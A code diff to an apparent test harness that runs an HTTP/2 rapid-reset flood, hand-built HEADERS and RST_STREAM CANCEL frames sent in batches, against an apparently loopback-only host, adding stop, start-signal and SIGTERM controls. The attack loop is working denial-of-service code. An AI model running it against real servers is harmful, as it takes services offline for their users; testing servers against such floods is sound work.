@@ -12,6 +12,7 @@ import ipaddress
 import socket
 import struct
 import time
+from collections.abc import Callable
 from dataclasses import dataclass
 
 import h2.config
@@ -64,8 +65,17 @@ def _frame(kind: int, flags: int, stream_id: int, payload: bytes) -> bytes:
     return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream_id) + payload
 
 
-def rapid_reset(host: str, port: int, max_streams: int, max_seconds: float, batch: int = 500) -> AttackReport:
-    """Opens and resets Play streams on one connection until either bound is reached.
+def rapid_reset(
+    host: str,
+    port: int,
+    max_streams: int,
+    max_seconds: float,
+    batch: int = 500,
+    started_streams: Callable[[], None] | None = None,
+    stopped: Callable[[], bool] = lambda: False,
+) -> AttackReport:
+    """Opens and resets Play streams on one connection until either bound is reached, or until
+    ``stopped()`` says so; ``started_streams`` is called once, when the first stream is out.
 
     The frames are built by hand (a HEADERS frame whose HPACK block only indexes the dynamic
     table after the first stream, then RST_STREAM CANCEL), as fast as Python can write them. A
@@ -76,7 +86,7 @@ def rapid_reset(host: str, port: int, max_streams: int, max_seconds: float, batc
     started = time.monotonic()
     sent = 0
     closed = False
-    while sent < max_streams and time.monotonic() - started < max_seconds:
+    while sent < max_streams and time.monotonic() - started < max_seconds and not stopped():
         try:
             _loopback(host)
             sock = socket.create_connection((host, port), timeout=5)
@@ -92,8 +102,10 @@ def rapid_reset(host: str, port: int, max_streams: int, max_seconds: float, batc
             stream_id = 1
             sock.sendall(_frame(0x1, 0x4, stream_id, first_block) + _frame(0x3, 0, stream_id, rst_code))
             sent += 1
+            if started_streams is not None and sent == 1:
+                started_streams()
             sock.setblocking(False)
-            while sent < max_streams and time.monotonic() - started < max_seconds:
+            while sent < max_streams and time.monotonic() - started < max_seconds and not stopped():
                 chunk = bytearray()
                 for _ in range(batch):
                     stream_id += 2
@@ -153,10 +165,22 @@ def raw_call(
 
 if __name__ == "__main__":
     import json
+    import signal
     import sys
 
+    # SIGTERM ends the attack early, its report still printed; "started" is printed (and
+    # flushed) once the first stream is out, for a caller that waits for the attack to be on.
+    stop: list[bool] = []
+    signal.signal(signal.SIGTERM, lambda *_: stop.append(True))
     host, port, count, seconds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
-    report = rapid_reset(host, port, count, seconds)
+    report = rapid_reset(
+        host,
+        port,
+        count,
+        seconds,
+        started_streams=lambda: print("started", flush=True),
+        stopped=lambda: bool(stop),
+    )
     print(
         json.dumps(
             {
